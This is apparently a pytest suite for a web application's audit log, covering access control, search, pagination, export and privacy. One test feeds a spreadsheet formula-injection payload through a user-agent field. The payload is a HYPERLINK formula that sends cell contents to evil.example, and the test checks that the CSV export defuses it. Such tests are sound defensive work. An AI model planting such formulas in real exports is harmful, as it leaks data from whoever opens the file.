"""The audit log: who did what, told to those who may know it, and to nobody else."""

import csv
import io
import json
import secrets
from collections.abc import AsyncIterator
from datetime import timedelta
from uuid import UUID

import httpx
import pytest
from sqlalchemy import text

from madang.catalog import installed
from madang.features.accounts.contracts import Device
from madang.features.accounts.service import registration, signing_in
from madang.features.operations.service import audit as reading
from madang.features.operations.service.months import turn_months
from madang.kernel.audit import ORIGIN, Origin, Target, record
from madang.kernel.auth import Principal
from madang.kernel.clock import now
from madang.kernel.house import House
from madang.kernel.http import build_app
from madang.kernel.ids import new_id

PASSWORD = "courtyard rain 7"
LOG = "/api/v1/audit/"
EXPORT = "/api/v1/audit/export"


@pytest.fixture
async def api(house: House) -> AsyncIterator[httpx.AsyncClient]:
    """A visitor from an address of their own."""
    transport = httpx.ASGITransport(build_app(house, installed()), client=(f"test-{secrets.token_hex(4)}", 1))
    async with httpx.AsyncClient(transport=transport, base_url="http://madang.test") as client:
        yield client


async def join(house: House, name: str, *, supervisor: bool) -> tuple[Principal, dict[str, str]]:
    email = f"{secrets.token_hex(6)}@example.org"
    await registration.create_supervisor(house, email, name, PASSWORD)
    if not supervisor:
        async with house.db.transaction() as tx:
            await tx.execute(text('UPDATE "user".accounts SET is_supervisor = false WHERE email = :it'), {"it": email})
    signed = await signing_in.sign_in(house, email, PASSWORD, Device(email, "a test"))
    return Principal(signed.account.id, supervisor), {"Authorization": f"Bearer {signed.access_token}"}


@pytest.fixture
async def boss(house: House) -> dict[str, str]:
    return (await join(house, "Boss", supervisor=True))[1]


async def note(house: House, who: Principal | None, action: str, *, target: Target | None = None, **more: str) -> None:
    async with house.db.transaction() as tx:
        await record(tx, who, action, target or Target("thing", new_id()), **more)


async def listed(api: httpx.AsyncClient, headers: dict[str, str], **wanted: object) -> list[dict[str, object]]:
    answer = await api.get(LOG, params={name: str(value) for name, value in wanted.items()}, headers=headers)
    assert answer.status_code == 200, answer.text
    return list(answer.json()["items"])


async def test_a_supervisor_finds_deeds_by_everything_they_say(
    house: House, api: httpx.AsyncClient, boss: dict[str, str]
) -> None:
    who, _ = await join(house, f"Minji {secrets.token_hex(4)}", supervisor=False)
    word, target = secrets.token_hex(6), new_id()
    began = now() - timedelta(seconds=1)
    origin = ORIGIN.set(Origin(f"10.0.{word}", "a browser"))
    await note(house, who, f"test.{word}_done", target=Target("thing", target), said=f"감나무 {word}")
    ORIGIN.reset(origin)
    async with house.db.transaction() as tx:
        name = await tx.scalar(text('SELECT name FROM "user".accounts WHERE id = :id'), {"id": who.account_id})
    for wanted in (
        {"action": f"test.{word}"},
        {"target_id": target},
        {"address": f"10.0.{word[:8]}"},
        {"q": f"감나무 {word}"},
        {"q": str(name).upper(), "action": "test."},
        {
            "actor_id": who.account_id,
            "action": "test.",
            "from": began.isoformat(),
            "to": (began + timedelta(minutes=5)).isoformat(),
        },
    ):
        found = await listed(api, boss, **wanted)
        assert [one["action"] for one in found] == [f"test.{word}_done"], wanted
        assert (found[0]["actor_name"], found[0]["target_id"]) == (name, str(target))
    assert await listed(api, boss, action=f"test.{word}", to=began.isoformat()) == []
    assert await listed(api, boss, action="%") == []


async def test_pages_follow_each_other_without_gap_or_repetition(
    house: House, api: httpx.AsyncClient, boss: dict[str, str]
) -> None:
    action = f"test.{secrets.token_hex(6)}"
    for _ in range(5):
        await note(house, None, action)
    seen: list[object] = []
    cursor: str | None = ""
    while cursor is not None:
        params = {"action": action, "limit": "2", **({"cursor": cursor} if cursor else {})}
        page = (await api.get(LOG, params=params, headers=boss)).json()
        seen += [one["id"] for one in page["items"]]
        cursor = page["next_cursor"]
    assert len(seen) == len(set(seen)) == 5
    assert seen == sorted(seen, reverse=True)
    assert (await api.get(LOG, params={"cursor": "x"}, headers=boss)).json()["code"] == "cursor_invalid"


async def test_what_happened_in_a_scope_and_beneath_it_is_found_by_it(
    house: House, api: httpx.AsyncClient, boss: dict[str, str]
) -> None:
    made = await api.post("/api/v1/organisations/", json={"name": "Here"}, headers=boss)
    here, room, action = UUID(made.json()["id"]), new_id(), f"test.{secrets.token_hex(6)}"
    await note(house, None, action, target=Target("class", room, (here, room)), place="beneath")
    await note(house, None, action, target=Target("organisation", here, (here,)), place="here")
    await note(house, None, action, target=Target("organisation", None, (new_id(),)), place="elsewhere")
    found = await listed(api, boss, action=action, scope_id=str(here))
    assert [one["details"] for one in found] == [{"place": "here"}, {"place": "beneath"}]


async def test_others_read_nothing(house: House, api: httpx.AsyncClient) -> None:
    _, plain = await join(house, "Plain", supervisor=False)
    for path in (LOG, EXPORT):
        assert (await api.get(path)).status_code == 401
        assert (await api.get(path, headers=plain)).json()["code"] == "supervisor_only"
        answer = await api.get(path, params={"scope_id": str(new_id())}, headers=plain)
        assert (answer.status_code, answer.json()["code"]) == (404, "scope_not_found")


async def test_an_export_is_whole_in_small_pages_and_is_itself_a_deed(
    house: House, api: httpx.AsyncClient, boss: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reading, "PAGE", 2)
    action = f"test.{secrets.token_hex(6)}"
    for number in range(5):
        await note(house, None, action, number=str(number))
    as_lines = await api.get(EXPORT, params={"action": action, "format": "jsonl"}, headers=boss)
    numbers = [json.loads(line)["details"]["number"] for line in as_lines.text.splitlines()]
    assert numbers == ["4", "3", "2", "1", "0"]
    as_csv = await api.get(EXPORT, params={"action": action}, headers=boss)
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert [json.loads(row["details"])["number"] for row in rows] == numbers
    exports = await listed(api, boss, action="operations.audit_exported", q=action)
    assert [one["details"]["format"] for one in exports] == ["csv", "jsonl"]  # type: ignore[index]  # it is JSON


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", " =", "＝", "＠", "\r"])
async def test_a_spreadsheet_works_nothing_out(
    house: House, api: httpx.AsyncClient, boss: dict[str, str], begin: str
) -> None:
    action = f"test.{secrets.token_hex(6)}"
    agent = f'{begin}HYPERLINK("http://evil.example?"&A1,"click")'
    origin = ORIGIN.set(Origin("", agent))
    await note(house, None, action)
    ORIGIN.reset(origin)
    exported = await api.get(EXPORT, params={"action": action}, headers=boss)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    assert [row["user_agent"] for row in rows] == [f"'{agent}"]


async def test_what_people_do_with_their_accounts_is_noted(house: House, api: httpx.AsyncClient) -> None:
    email = f"{secrets.token_hex(6)}@example.org"
    made = await registration.create_supervisor(house, email, "Minji", PASSWORD)
    credentials = {"email": email, "password": PASSWORD}
    for _ in range(3):
        assert (await api.post("/api/v1/auth/login", json={**credentials, "password": "wrong one"})).status_code == 401
    signed = (await api.post("/api/v1/auth/login", json=credentials)).json()
    boss = {"Authorization": f"Bearer {signed['access_token']}"}
    invite = (await api.post("/api/v1/auth/invites", json={}, headers=boss)).json()
    await api.delete(f"/api/v1/auth/invites/{invite['id']}", headers=boss)
    await api.put(f"/api/v1/users/{made.id}", json={"name": "Minji Kim"}, headers=boss)
    for _ in range(3):
        signed = (await api.post("/api/v1/auth/refresh", json={"refresh_token": signed["refresh_token"]})).json()
    await api.post("/api/v1/auth/logout", json={"refresh_token": signed["refresh_token"]})
    async with house.db.transaction() as tx:
        query = text("SELECT action, address FROM supervisor.audit WHERE :it IN (target_id, actor_id) ORDER BY id")
        rows = (await tx.execute(query, {"it": made.id})).all()
    assert [row.action.removeprefix("accounts.") for row in rows] == [
        "registered",
        "sign_in_failed",
        "signed_in",
        "invite_made",
        "invite_withdrawn",
        "changed",
        "signed_out",
    ]
    assert all(row.address.startswith("test-") for row in rows[1:])


async def test_a_failure_is_noted_without_what_was_typed(house: House, api: httpx.AsyncClient) -> None:
    typed = secrets.token_hex(8)
    await api.post("/api/v1/auth/login", json={"email": f"{typed}@example.org", "password": typed})
    async with house.db.transaction() as tx:
        query = text("SELECT count(*) FROM supervisor.audit WHERE strpos(audit::text, :typed) > 0")
        assert await tx.scalar(query, {"typed": typed}) == 0


async def test_months_turn_by_the_clock(house: House, capsys: pytest.CaptureFixture[str]) -> None:
    strange = new_id()
    async with house.db.transaction() as tx:
        await tx.execute(
            text(
                "INSERT INTO supervisor.audit (id, created_at, action, target_kind, scope_path, address, user_agent,"
                " details) VALUES (:id, '2001-01-01Z', 'test.strange', 'test', '{}', '', '', '{}')"
            ),
            {"id": strange},
        )
    await turn_months(house)
    assert "audit_outside_of_months" in capsys.readouterr().out
    async with house.db.transaction() as tx:
        kept = text("SELECT count(*) FROM supervisor.audit WHERE id = :id")
        assert await tx.scalar(kept, {"id": strange}) == 1


async def test_people_read_what_the_log_says_about_them_and_no_more(house: House) -> None:
    who, _ = await join(house, "Minji", supervisor=False)
    other, _ = await join(house, "Other", supervisor=True)
    origin = ORIGIN.set(Origin("198.51.100.7", "the other's browser"))
    await note(house, other, "test.done_to_me", target=Target("account", who.account_id), reason="secret reason")
    await note(house, other, "test.done_elsewhere")
    ORIGIN.reset(origin)
    said = b"".join([piece async for file in reading.own_part(house, who) async for piece in file.content]).decode()
    lines = [json.loads(line) for line in said.splitlines()]
    assert [one["action"] for one in lines][-1] == "test.done_to_me"
    for alien in ("198.51.100.7", "the other's browser", "secret reason", str(other.account_id), "done_elsewhere"):
        assert alien not in said
    assert UUID(lines[0]["target_id"]) == who.account_id
